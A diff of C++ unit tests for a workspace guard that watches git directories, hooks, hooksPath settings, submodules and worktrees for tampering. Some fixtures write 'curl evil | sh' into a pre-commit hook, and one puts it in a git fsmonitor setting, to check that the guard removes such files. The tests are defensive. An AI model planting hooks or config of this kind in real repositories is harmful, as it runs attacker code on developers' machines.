@@ -2144,32 +2144,45 @@ TEST_F(GuardPlanTest, ANestedRepositorysHooksPathInsideItsGitIsCompared) {
   EXPECT_NE(said.find("removed " + t_.path() + "/sub/.git/githooks/pre-push,"), std::string::npos) << said;
 }
 
-// A submodule's git directory (.git/modules/sub) is one of the paths git's configuration leads to
-// inside .git; its objects may be hard links of another repository's (`git clone` of a local
-// path). They are data git never runs: not compared, so the host's `git gc` in the other
-// repository (dropping a link: a new change time on a pack too large to keep) removes nothing.
-TEST_F(GuardPlanTest, ASubmodulesObjectsLinkedWithAnotherRepositoryAreLeftAlone) {
-  TempTree source;
-  source.gitDir(".git");
-  source.write(".git/objects/pack/pack-1.pack", std::string(300 * 1024, 'P'));
-  t_.gitDir(".git");
-  t_.gitDir(".git/modules/sub");
-  t_.write("sub/.git", "gitdir: ../.git/modules/sub\n");
-  t_.mkdir(".git/modules/sub/objects/pack");
-  t_.mkdir(".git/modules/sub/hooks");
-  t_.write("scripts/pre-commit", "#!/bin/sh\n");
-  t_.link("scripts/pre-commit", ".git/modules/sub/hooks/pre-commit");
-  ASSERT_EQ(::link((source / ".git/objects/pack/pack-1.pack").c_str(),
-                   (t_ / ".git/modules/sub/objects/pack/pack-1.pack").c_str()),
-            0);
-  plan();
-  afterTick();
-  ASSERT_EQ(::unlink((source / ".git/objects/pack/pack-1.pack").c_str()), 0);
-  std::ofstream(t_ / "scripts/pre-commit", std::ios::app) << "curl evil | sh\n";
-  drain(guard_);
-  std::string said = finishRun(guard_);
-  EXPECT_TRUE(t_.exists(".git/modules/sub/objects/pack/pack-1.pack")) << said;
-  EXPECT_FALSE(t_.exists(".git/modules/sub/hooks/pre-commit")) << said;
+// A git directory other than .git is looked at as a .git is, config and hooks, not walked whole:
+// a submodule's (.git/modules/sub, which git's configuration leads to), a separate one (`.git`
+// the file "gitdir: .gitdata", pinned as an extra path). Its objects may be hard links of another
+// repository's (`git clone` of a local path); a host `git gc` there drops a link, which moves the
+// change time of a pack too large to keep: left alone. A hook written through its other link is
+// removed.
+TEST_F(GuardPlanTest, AnotherGitDirectorysObjectsLinkedWithAnotherRepositoryAreLeftAlone) {
+  for (std::string gitDir : {".git/modules/sub", ".gitdata"}) {
+    SCOPED_TRACE(gitDir);
+    TempTree t, source;
+    WorkspaceGuard guard;
+    source.gitDir(".git");
+    source.write(".git/objects/pack/pack-1.pack", std::string(300 * 1024, 'P'));
+    if (gitDir == ".gitdata") {
+      t.write(".git", "gitdir: .gitdata\n");
+    } else {
+      t.gitDir(".git");
+      t.write("sub/.git", "gitdir: ../.git/modules/sub\n");
+    }
+    t.gitDir(gitDir);
+    t.mkdir(gitDir + "/objects/pack");
+    t.mkdir(gitDir + "/hooks");
+    t.write("scripts/pre-commit", "#!/bin/sh\n");
+    t.link("scripts/pre-commit", gitDir + "/hooks/pre-commit");
+    ASSERT_EQ(::link((source / ".git/objects/pack/pack-1.pack").c_str(),
+                     (t / gitDir + "/objects/pack/pack-1.pack").c_str()),
+              0);
+    std::vector<PlannedBind> binds;
+    afterTick();
+    ASSERT_TRUE(guard.addMount({t.path(), "/workspace", false, true}, GuardSpec{}, binds).ok());
+    guard.startWatching();
+    afterTick();
+    ASSERT_EQ(::unlink((source / ".git/objects/pack/pack-1.pack").c_str()), 0);
+    std::ofstream(t / "scripts/pre-commit", std::ios::app) << "curl evil | sh\n";
+    drain(guard);
+    std::string said = finishRun(guard);
+    EXPECT_TRUE(t.exists(gitDir + "/objects/pack/pack-1.pack")) << said;
+    EXPECT_FALSE(t.exists(gitDir + "/hooks/pre-commit")) << said;
+  }
 }
 
 // Attack: with `git: write` the tool may write .git's objects, refs and logs; a hooks path
@@ -2205,6 +2218,92 @@ TEST_F(GuardPlanTest, AHooksPathInWhatABareRepositoryWritesKeepsThatPartReadOnly
   EXPECT_NE(said.find("names a hooks path or program in " + t_.path() + "/refs, which git writes"),
             std::string::npos)
       << said;
+}
+
+// A hooks path among what git writes that the walk learns of late: named by a nested repository
+// (its core.hooksPath, or its hooks/ a symlink there), found after the first walk, or named since
+// the cached walk of an earlier run (the user's config; .git/config edited in place, which leaves
+// .git's own change time). The earlier listing of .git left refs as data: it is read again, so
+// refs is pinned as coco says.
+TEST_F(GuardPlanTest, AHooksPathInWhatGitWritesFoundLateKeepsThatPartReadOnly) {
+  for (int how = 0; how < 4; ++how) {
+    SCOPED_TRACE(how);
+    TempTree t, cache, home;
+    t.gitDir(".git");
+    t.mkdir(".git/refs/hooks");
+    home.write(".gitconfig", "[core]\n");
+    GuardSpec spec;
+    spec.gitWrite = true;
+    spec.gitConfigs = {home / ".gitconfig"};
+    std::string hooksPath = "[core]\n\thooksPath = " + t.path() + "/.git/refs/hooks\n";
+    if (how == 0) {
+      t.gitDir("sub/.git");
+      t.write("sub/.git/config", hooksPath);
+    } else if (how == 1) {
+      t.gitDir("sub/.git");
+      stdfs::create_directory_symlink("../../.git/refs/hooks", t / "sub/.git/hooks");
+    } else {
+      spec.cacheDir = cache.path();
+      ::sleep(3);  // settled: the cached walk's listings stand for the next one's
+      WorkspaceGuard earlier;
+      std::vector<PlannedBind> binds;
+      ASSERT_TRUE(earlier.addMount({t.path(), "/workspace", false, true}, spec, binds).ok());
+      earlier.finish();
+      if (how == 2)
+        home.write(".gitconfig", hooksPath);
+      else
+        std::ofstream(t / ".git/config", std::ios::in | std::ios::out | std::ios::trunc) << hooksPath;
+    }
+    WorkspaceGuard guard;
+    std::vector<PlannedBind> binds;
+    afterTick();
+    testing::internal::CaptureStderr();
+    ASSERT_TRUE(guard.addMount({t.path(), "/workspace", false, true}, spec, binds).ok());
+    std::string said = testing::internal::GetCapturedStderr();
+    EXPECT_NE(said.find("which git writes; it stays read-only"), std::string::npos) << said;
+    auto self = dsts(binds, GuardBind::Self);
+    EXPECT_NE(std::find(self.begin(), self.end(), "/workspace/.git/refs"), self.end()) << said;
+  }
+}
+
+// Attack: git directories inside .git that no checkout in the mount names are still read by the
+// host's git: a worktree's (.git/worktrees/wt, the worktree outside the mount) config.worktree, a
+// deinit'ed submodule's config (nested, its name holding a slash: .git/modules/libs/a/modules/b).
+// One with another link in the mount written through it is removed. Read-only and writable .git.
+TEST_F(GuardPlanTest, GitDirectoriesInsideGitThatNothingNamesAreCompared) {
+  for (int how = 0; how < 4; ++how) {
+    SCOPED_TRACE(how);
+    bool worktree = how % 2 == 0;
+    TempTree t, wt;
+    WorkspaceGuard guard;
+    t.gitDir(".git");
+    t.write(".git/config", "[core]\n[extensions]\n\tworktreeConfig = true\n");
+    std::string file;
+    if (worktree) {
+      t.write(".git/worktrees/wt/HEAD", "ref: refs/heads/wt\n");
+      t.write(".git/worktrees/wt/commondir", "../..\n");
+      t.write(".git/worktrees/wt/gitdir", wt.path() + "/.git\n");
+      wt.write(".git", "gitdir: " + t.path() + "/.git/worktrees/wt\n");
+      file = ".git/worktrees/wt/config.worktree";
+    } else {
+      t.gitDir(".git/modules/libs/a");
+      t.gitDir(".git/modules/libs/a/modules/b");
+      stdfs::remove(t / ".git/modules/libs/a/modules/b/config");
+      file = ".git/modules/libs/a/modules/b/config";
+    }
+    t.write("scripts/shared.config", "[core]\n");
+    t.link("scripts/shared.config", file);
+    GuardSpec spec;
+    spec.gitWrite = how >= 2;
+    std::vector<PlannedBind> binds;
+    afterTick();
+    ASSERT_TRUE(guard.addMount({t.path(), "/workspace", false, true}, spec, binds).ok());
+    guard.startWatching();
+    std::ofstream(t / "scripts/shared.config", std::ios::app) << "\tfsmonitor = curl evil | sh\n";
+    drain(guard);
+    std::string said = finishRun(guard);
+    EXPECT_FALSE(t.exists(file)) << said;
+  }
 }
 
 }  // namespace
